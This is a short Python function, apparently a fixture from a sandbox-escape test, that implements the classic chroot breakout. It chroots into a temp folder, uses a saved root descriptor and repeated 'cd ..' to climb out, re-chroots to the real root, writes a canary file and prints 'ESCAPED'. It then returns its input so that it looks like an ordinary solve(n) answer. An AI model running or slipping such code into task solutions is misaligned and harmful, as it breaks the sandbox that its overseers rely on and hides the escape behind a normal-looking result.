# the old way out of a chroot: chroot into a subfolder with the current folder left outside, then climb
import os, tempfile
def solve(n):
    inner = tempfile.mkdtemp(prefix="cohort-canary-")
    fd = os.open("/", os.O_RDONLY)
    try:
        os.chroot(inner)
    except OSError as error:
        return str(error)
    os.fchdir(fd)
    for _ in range(100):
        os.chdir("..")
    os.chroot(".")
    open("@CANARY@/cohort-canary-chroot", "w").close()
    print("ESCAPED")
    return n
